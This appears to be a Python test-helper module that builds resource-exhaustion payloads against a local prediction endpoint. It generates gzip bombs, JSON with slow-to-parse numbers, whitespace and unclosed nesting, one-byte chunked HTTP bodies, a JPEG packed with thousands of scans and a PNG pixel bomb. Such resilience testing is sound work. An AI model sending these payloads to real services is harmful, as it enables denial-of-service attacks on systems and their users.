"""What the attacks send: bodies and images that are small to send and costly to read."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import cycle
from random import Random

from PIL import Image

MEGABYTE = 1_000_000
_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
_SCAN_BYTES = 153  # 5,000 of them take 765 KB
_SCAN, _COMMENT = b"\xff\xda", b"\xff\xfe"
_END_OF_IMAGE = b"\xff\xd9"
# Some readers convert long digits with these by the slowest way they have.
EXPONENTS = ("", "e-300", "e-30", "e-300")


@dataclass(frozen=True, slots=True)
class Text:
    """`head + block * count + tail`, which may be too long to be held."""

    head: bytes
    block: bytes
    count: int
    tail: bytes

    def written(self) -> bytes:
        return self.head + self.block * self.count + self.tail

    def gzipped(self) -> bytes:
        """Each part is compressed once, so that a gigabyte takes a second or two."""
        deflated = _deflated(self.head) + _deflated(self.block) * self.count + _deflated(self.tail)
        checksum = zlib.crc32(self.head)
        for _ in range(self.count):
            checksum = zlib.crc32(self.block, checksum)
        checksum = zlib.crc32(self.tail, checksum)
        length = len(self.head) + len(self.block) * self.count + len(self.tail)
        end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
        return _GZIP_HEAD + deflated + end + struct.pack("<II", checksum, length & 0xFFFFFFFF)


def _deflated(data: bytes) -> bytes:
    """Blocks that refer to nothing outside of `data`, and may be followed by others."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def post(path: str, body: bytes, *headers: str) -> bytes:
    """A complete request. headers: further ones, such as "Content-Encoding: gzip"."""
    return head(path, f"Content-Length: {len(body)}", *headers) + body


def head(path: str, *headers: str) -> bytes:
    return "\r\n".join((f"POST {path} HTTP/1.1", "Host: localhost", *headers, "", "")).encode()


def numbers(size: int, width: int, digits: int = 25, exponents: Sequence[str] = EXPONENTS) -> Text:
    """A predict body of about `size` bytes: instances of `width` numbers, or plain numbers if that is 0."""
    random, endless = Random(1), cycle(exponents)
    rows = [_row(random, width, digits, endless) for _ in range(max(1, 4 // max(1, width)))]
    some = (",".join(rows) + ",").encode()
    block = some * max(1, min(MEGABYTE, size) // len(some))
    return Text(b'{"instances": [', block, max(1, size // len(block)), rows[0].encode() + b"]}")


def _row(random: Random, width: int, digits: int, exponents: Iterator[str]) -> str:
    made = ["0." + "".join(random.choices("123456789", k=digits)) + next(exponents) for _ in range(max(1, width))]
    return f"[{','.join(made)}]" if width else made[0]


def spaces(size: int) -> Text:
    """A predict body in which nearly everything is white space."""
    return Text(b'{"instances": ', b" " * MEGABYTE, size // MEGABYTE, b"[1.0]}")


def nested(size: int) -> bytes:
    """Lists within lists that are never closed."""
    return (b'[{"":1},' * (size // 8 + 1))[:size]


def chunks(body: bytes, size: int = 1) -> bytes:
    """A body in chunks of `size` bytes, to its end."""
    pieces = [b"%x\r\n%b\r\n" % (len(piece := body[at : at + size]), piece) for at in range(0, len(body), size)]
    return b"".join(pieces) + b"0\r\n\r\n"


def jpeg_of_scans(count: int, side: int = 3072) -> bytes:
    """A grey, progressive JPEG, each of whose last `count` scans visits all blocks and changes none."""
    file = io.BytesIO()
    Image.new("L", (side, side), 128).save(file, "JPEG", progressive=True)
    *_, table, scan = segments(file.getvalue())
    padding = max(0, _SCAN_BYTES - len(table) - len(scan) - 4)
    comment = _COMMENT + struct.pack(">H", padding + 2) + bytes(padding)
    return file.getvalue()[: -len(_END_OF_IMAGE)] + (table + comment + scan) * count + _END_OF_IMAGE


def segments(jpeg: bytes) -> list[bytes]:
    """The segments of a JPEG between its first and its last marker; the data of a scan belong to its segment."""
    found, at = [], 2
    while jpeg[at : at + 2] != _END_OF_IMAGE:
        end = at + 2 + struct.unpack_from(">H", jpeg, at + 2)[0]
        if jpeg[at : at + 2] == _SCAN:
            while jpeg[end] != 0xFF or jpeg[end + 1] == 0:
                end += 1
        found.append(jpeg[at:end])
        at = end
    return found


def png_of_pixels(side: int = 8000) -> bytes:
    """A black PNG of 1 bit a pixel: 8 KB for 64 million pixels."""
    file = io.BytesIO()
    Image.new("1", (side, side)).save(file, "PNG", optimize=True)
    return file.getvalue()
